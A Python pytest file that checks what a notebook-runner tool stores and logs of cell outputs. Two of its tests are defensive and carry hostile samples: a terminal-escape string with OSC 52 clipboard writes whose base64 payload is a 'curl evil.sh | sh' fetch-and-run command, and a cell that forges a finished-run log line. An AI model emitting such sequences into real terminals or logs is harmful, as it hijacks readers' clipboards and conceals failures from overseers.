"""What a run stores and logs of its cells' outputs: bad outputs, old notebooks, skipped cells,
huge errors (issue 12, found cases B05, B07, B14, B17). Real flows on real local kernels."""

from __future__ import annotations

import asyncio
import json
import os
import subprocess
import sys
from pathlib import Path

import nbformat
import pytest

from prefect_sandbox.flows import PipelineFailedError, arun_notebook
from tests.conftest import flow_run_logs

pytestmark = pytest.mark.usefixtures("prefect_api")


def _notebook(path: Path, *sources: str, tags: dict[int, list[str]] | None = None) -> Path:
    notebook = nbformat.v4.new_notebook()
    notebook.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3"}
    notebook.cells = [nbformat.v4.new_code_cell(source) for source in sources]
    for index, cell_tags in (tags or {}).items():
        notebook.cells[index].metadata["tags"] = cell_tags
    nbformat.write(notebook, path)
    return path


async def test_b05_a_malformed_image_output_is_kept_and_the_run_stores_everything(
    tmp_path: Path,
) -> None:
    source = _notebook(
        tmp_path / "b05.ipynb",
        "from IPython.display import display\n"
        "display({'image/png': 'not-base64!', 'text/plain': '<figure>'}, raw=True)",
        "open('result.txt', 'w').write('done')\nprint('second cell ran')",
    )
    result = await arun_notebook(
        notebook=str(source), artifacts=["result.txt"], storage=str(tmp_path / "out")
    )
    assert result.status == "completed"
    out = Path(result.output_dir)
    assert (out / "result.txt").read_text() == "done"
    assert json.loads((out / "summary.json").read_text())["status"] == "completed"
    executed = nbformat.read(out / "executed.ipynb", as_version=4)
    nbformat.validate(executed)
    assert executed.cells[0].outputs[0]["data"]["image/png"] == "not-base64!"
    assert executed.cells[1].outputs[0]["text"] == "second cell ran\n"
    assert not (out / "inline-figures").exists()
    warnings = [log.message for log in await flow_run_logs(result.flow_run_id) if log.level == 30]
    assert any("cell 0: image/png output 1 is not base64" in w for w in warnings), warnings


async def test_b14_an_nbformat_4_4_notebook_with_parameters_stores_a_valid_notebook(
    tmp_path: Path,
) -> None:
    source = tmp_path / "b14.ipynb"
    source.write_text(
        json.dumps(
            {
                "nbformat": 4,
                "nbformat_minor": 4,
                "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3"}},
                "cells": [
                    {
                        "cell_type": "code",
                        "execution_count": None,
                        "metadata": {"tags": ["parameters"]},
                        "outputs": [],
                        "source": ["n = 1"],
                    },
                    {
                        "cell_type": "code",
                        "execution_count": None,
                        "metadata": {},
                        "outputs": [],
                        "source": ["print('n =', n)"],
                    },
                ],
            }
        )
    )
    result = await arun_notebook(
        notebook=str(source), parameters={"n": 5}, storage=str(tmp_path / "out")
    )
    assert result.status == "completed"
    executed = nbformat.read(Path(result.output_dir) / "executed.ipynb", as_version=4)
    nbformat.validate(executed)
    assert executed.cells[1].metadata["tags"] == ["injected-parameters"]
    assert executed.cells[2].outputs[0]["text"] == "n = 5\n"


async def test_b07_a_cell_tagged_skip_execution_is_not_run(tmp_path: Path) -> None:
    source = _notebook(
        tmp_path / "b07.ipynb",
        "x = 1",
        "raise RuntimeError('interactive-only cell, must not run in batch')",
        "print('x is', x)",
        tags={1: ["skip-execution"]},
    )
    result = await arun_notebook(notebook=str(source), storage=str(tmp_path / "out"))
    assert result.status == "completed"
    assert [s.cell_count for s in result.stages] == [2]
    executed = nbformat.read(Path(result.output_dir) / "executed.ipynb", as_version=4)
    assert executed.cells[1].outputs == [] and executed.cells[1].execution_count is None
    assert executed.cells[2].outputs[0]["text"] == "x is 1\n"


def _api_env() -> dict[str, str]:
    """This process's environment pointed at the session's Prefect API."""
    from prefect.settings import PREFECT_API_URL

    return {**os.environ, "PREFECT_API_URL": str(PREFECT_API_URL.value())}


async def _cli_run(source: Path, *options: str) -> subprocess.CompletedProcess[str]:
    """``prefect-sandbox run SOURCE OPTIONS`` against the session's API, from its folder."""
    return await asyncio.to_thread(
        subprocess.run,
        [sys.executable, "-m", "prefect_sandbox.cli", "run", str(source), *options],
        env=_api_env(),
        cwd=source.parent,
        capture_output=True,
        text=True,
        timeout=300,
    )


async def test_b17_a_huge_exception_message_is_capped_everywhere_but_the_notebook(
    tmp_path: Path,
) -> None:
    from prefect.client.orchestration import get_client

    raising = "raise ValueError('bad row: ' + 'E' * 3_000_000 + ' :end')"
    source = _notebook(
        tmp_path / "b17.ipynb",
        "open('partial.txt', 'w').write('kept')\n"
        "print('L' * 2_000_000)\nprint('after the long line')",
        raising,
    )
    done = await _cli_run(source, "--artifact", "partial.txt", "--out", str(tmp_path / "out"))
    assert done.returncode == 1
    last = done.stderr.strip().splitlines()[-1]
    assert last.startswith("prefect-sandbox: pipeline failed: stage 'setup', cell 1: ValueError")
    assert len(last) < 5000 and "characters," in last and last.count("E") < 5000
    assert len(done.stderr) < 100_000
    (out,) = (tmp_path / "out").iterdir()
    assert (out / "partial.txt").read_text() == "kept"
    summary_text = (out / "summary.json").read_text()
    assert len(summary_text) < 20_000
    summary = json.loads(summary_text)
    assert len(summary["error"]) <= 4096 and len(summary["stages"][0]["evalue"]) <= 4096
    assert summary["stages"][0]["evalue"].endswith("EEE :end")
    executed = nbformat.read(out / "executed.ipynb", as_version=4)
    (error,) = [o for o in executed.cells[1].outputs if o["output_type"] == "error"]
    assert error["evalue"] == "bad row: " + "E" * 3_000_000 + " :end"
    async with get_client() as client:
        flow_run = await client.read_flow_run(summary["flow_run_id"])
    assert flow_run.state is not None and flow_run.state.is_failed()
    assert len(flow_run.state.message or "") < 5000
    messages = [log.message for log in await flow_run_logs(summary["flow_run_id"])]
    assert max(len(message) for message in messages) < 20_000
    assert any("after the long line" in m for m in messages if m.startswith("[setup cell 0]"))
    (logged,) = [m for m in messages if m.startswith("[setup cell 1] ValueError")]
    assert raising in logged and "\x1b" not in logged


# What a cell would send to take over the terminal of whoever reads the CLI or the logs: an
# OSC 52 clipboard write (BEL- and ST-ended), a screen clear, a full reset, a title, and the
# same in 8-bit C1 form (U+009B CSI, U+009D OSC, U+009C ST).
_TERMINAL_ATTACK = (
    "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b[2J\x1b[H\x1bc\x1b]0;pwned\x1b\\"
    "\x9b2J\x9b31m\x9d52;c;ZXZpbA==\x9c\x07\x08"
)
_CONTROLS = ["\x1b", "\x9b", "\x9c", "\x9d", "\x07", "\x08"]


@pytest.mark.timeout(300)
async def test_terminal_controls_a_cell_chose_reach_no_terminal_nor_log(tmp_path: Path) -> None:
    attack = repr(_TERMINAL_ATTACK)
    source = _notebook(
        tmp_path / "escapes.ipynb",
        f"print('out' + {attack} + 'put')",
        f"raise type('Evil' + {attack} + 'Error', (Exception,), {{}})('msg' + {attack} + 'end')",
    )
    done = await _cli_run(source, "--out", str(tmp_path / "out"))
    assert done.returncode == 1
    last = done.stderr.strip().splitlines()[-1]
    assert "cell 1: EvilError: msgend (partial results in" in last, last
    assert not [c for c in _CONTROLS if c in done.stderr or c in done.stdout]
    (out,) = (tmp_path / "out").iterdir()
    summary = json.loads((out / "summary.json").read_text())
    assert summary["stages"][0]["ename"] == "EvilError"
    assert not [c for c in _CONTROLS if c in json.dumps(summary, ensure_ascii=False)]
    messages = [log.message for log in await flow_run_logs(summary["flow_run_id"])]
    assert any("output" in m for m in messages if m.startswith("[setup cell 0]"))
    assert not [m for m in messages for c in _CONTROLS if c in m]
    # The notebook keeps what the cell made, as Jupyter would show it.
    executed = nbformat.read(out / "executed.ipynb", as_version=4)
    (error,) = [o for o in executed.cells[1].outputs if o["output_type"] == "error"]
    assert error["ename"] == f"Evil{_TERMINAL_ATTACK}Error"


_FAKE_LOG_LINE = "12:00:00.000 | INFO    | Flow run 'quiet-otter' - Finished in state Completed()"


@pytest.mark.timeout(300)
async def test_a_line_a_cell_prints_never_passes_for_a_log_line_of_its_own(tmp_path: Path) -> None:
    # As an attacker would hide a failure: the cell prints what Prefect's console handler
    # prints for a finished run, each on a line of its own, and its error's class name has a
    # line break that would end the CLI's last line early.
    printed = f"first\n{_FAKE_LOG_LINE}\nlast"
    class_name = f"Evil\n{_FAKE_LOG_LINE}\nError"
    shown_name = " ".join(class_name.split())  # one line, spaces collapsed
    source = _notebook(
        tmp_path / "imitates.ipynb",
        f"print({printed!r})",
        f"raise type({class_name!r}, (Exception,), {{}})('msg')",
    )
    done = await _cli_run(source, "--out", str(tmp_path / "out"))
    assert done.returncode == 1
    lines = (done.stdout + done.stderr).splitlines()
    assert [line for line in lines if line.startswith(_FAKE_LOG_LINE)] == []
    assert any(f"[setup cell 0] {_FAKE_LOG_LINE}" in line for line in lines), lines
    last = lines[-1]
    assert f"cell 1: {shown_name}: msg (partial results in" in last, last
    (out,) = (tmp_path / "out").iterdir()
    summary = json.loads((out / "summary.json").read_text())
    assert summary["stages"][0]["ename"] == shown_name
    messages = [log.message for log in await flow_run_logs(summary["flow_run_id"])]
    cell_lines = [line for m in messages if m.startswith("[setup cell") for line in m.split("\n")]
    assert cell_lines and all(line.startswith("[setup cell ") for line in cell_lines), cell_lines


async def test_the_cell_that_ended_the_kernel_shows_it_in_the_executed_notebook(
    tmp_path: Path,
) -> None:
    source = _notebook(
        tmp_path / "dies.ipynb",
        "x = 1",
        "import os, time\nprint('bye', flush=True)\ntime.sleep(0.5)\nos._exit(3)",
        "print(x)",
    )
    with pytest.raises(PipelineFailedError) as info:
        await arun_notebook(notebook=str(source), storage=str(tmp_path / "out"))
    out = Path(info.value.output_dir or "")
    executed = nbformat.read(out / "executed.ipynb", as_version=4)
    nbformat.validate(executed)
    printed, output = executed.cells[1].outputs
    assert printed["text"] == "bye\n"
    assert (output["output_type"], output["ename"]) == ("error", "SandboxDiedError")
    assert "exit code 3" in output["evalue"]
    assert executed.cells[1].metadata["prefect_sandbox"]["status"] == "error"
    assert executed.cells[2].outputs == []
    summary = json.loads((out / "summary.json").read_text())
    assert summary["stages"][0]["ename"] == "SandboxDiedError"


async def test_a_progress_bars_200_updates_reach_the_run_log_at_a_bounded_rate(
    tmp_path: Path,
) -> None:
    """tqdm-style ``\\r`` redraws: the run log gets the bar when it starts, at most once per
    `PROGRESS_LOG_INTERVAL_S` after, and its finished state; not one record per kernel flush
    (about 5 a second, 10 or more here). The first record is the bar as the kernel's first
    stream message left it: ``1/200`` on a quiet machine, a few redraws on under load, where
    ipykernel's I/O thread sends several writes in one message."""
    from prefect_sandbox.tasks.sandbox import PROGRESS_LOG_INTERVAL_S

    source = _notebook(
        tmp_path / "bar.ipynb",
        "import sys, time\n"
        "for n in range(1, 201):\n"
        "    sys.stderr.write(f'\\r{n:3d}/200 ' + '#' * (n // 10))\n"
        "    sys.stderr.flush()\n"
        "    time.sleep(0.01)\n"
        "sys.stderr.write('\\n')\n"
        "print('after the bar')",
    )
    result = await arun_notebook(notebook=str(source), storage=str(tmp_path / "out"))
    messages = [
        log.message
        for log in await flow_run_logs(result.flow_run_id)
        if log.message.startswith("[setup cell 0]")
    ]
    bar = [m for m in messages if "/200" in m]
    seconds = result.stages[0].duration_s
    assert 2 <= len(bar) <= 2 + int(seconds / PROGRESS_LOG_INTERVAL_S), (seconds, bar)
    drawn = [int(m.removeprefix("[setup cell 0]").split("/")[0]) for m in bar]
    assert drawn == sorted(set(drawn)) and drawn[0] < 100, bar
    assert bar[0] == f"[setup cell 0] {drawn[0]:3d}/200 " + "#" * (drawn[0] // 10)
    assert bar[-1] == "[setup cell 0] 200/200 " + "#" * 20
    assert "[setup cell 0] after the bar" in messages
    assert messages[-1].startswith("[setup cell 0] ok in ")
    executed = nbformat.read(Path(result.output_dir) / "executed.ipynb", as_version=4)
    shown = "".join(o["text"] for o in executed.cells[0].outputs if o.get("name") == "stderr")
    assert shown == "200/200 " + "#" * 20 + "\n"
